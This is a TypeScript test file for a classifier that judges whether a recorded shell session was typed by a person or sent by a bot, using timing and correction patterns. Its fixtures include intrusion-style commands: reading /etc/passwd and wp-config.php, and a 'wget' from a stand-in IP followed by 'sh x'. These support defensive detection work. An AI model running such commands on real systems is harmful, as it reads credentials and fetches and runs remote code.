import { describe, expect, it } from 'vitest';
import { sampleEvent } from '../../event-log/sample-events.ts';
import { judgeActor } from './human-or-bot.ts';
import { foldBehaviour, type SessionBehaviour } from './session-behaviour.ts';

const T0 = Date.parse('2026-05-01T10:00:00.000Z');

function typed(lines: readonly (readonly [gapMs: number, input: string])[]): SessionBehaviour {
  let atMs = T0;
  let behaviour = foldBehaviour(null, sampleEvent(0));
  for (const [gapMs, input] of lines) {
    atMs += gapMs;
    const event = { ...sampleEvent(0), at: new Date(atMs).toISOString() };
    behaviour = foldBehaviour(behaviour, { ...event, kind: 'command.entered', data: { input, channel: 'shell' } });
  }
  return behaviour;
}

describe('the verdict on who acts', () => {
  it('is a person who reads, pauses and corrects what was typed', () => {
    const verdict = judgeActor(
      typed([
        [0, 'ls -la'],
        [4_000, 'cat /etc/pasdw'],
        [2_500, 'cat /etc/passwd'],
        [25_000, 'clear'],
        [900, 'cd /var/www'],
        [60_000, 'less wp-config.php'],
      ]),
    );
    expect(verdict.actor).toBe('human');
    expect(verdict.evidence.map(({ name }) => name)).toEqual([
      'time-to-type',
      'irregular-rhythm',
      'corrections',
      'reader',
      'short-lines',
    ]);
  });

  it('is a program that sends its lines at once', () => {
    const verdict = judgeActor(
      typed(['uname -a', 'cat /proc/cpuinfo', 'free -m', 'wget http://192.0.2.1/x', 'sh x'].map((line) => [20, line])),
    );
    expect(verdict.actor).toBe('bot');
    expect(verdict.evidence[0]).toEqual({
      name: 'faster-than-typing',
      weight: expect.closeTo(-3.4, 5),
      reason: '100 % of the lines came within 0.3 s of the one before.',
    });
  });

  it('is a program that waits the same time between its lines, however long', () => {
    expect(
      judgeActor(typed(Array.from({ length: 12 }, () => [2_000, 'echo -e "\\x61\\x62\\x63\\x64" >> x']))),
    ).toMatchObject({
      actor: 'bot',
    });
  });

  it('is a program for a session in which nothing was entered', () => {
    expect(judgeActor(foldBehaviour(null, sampleEvent(0))).actor).toBe('bot');
  });
});
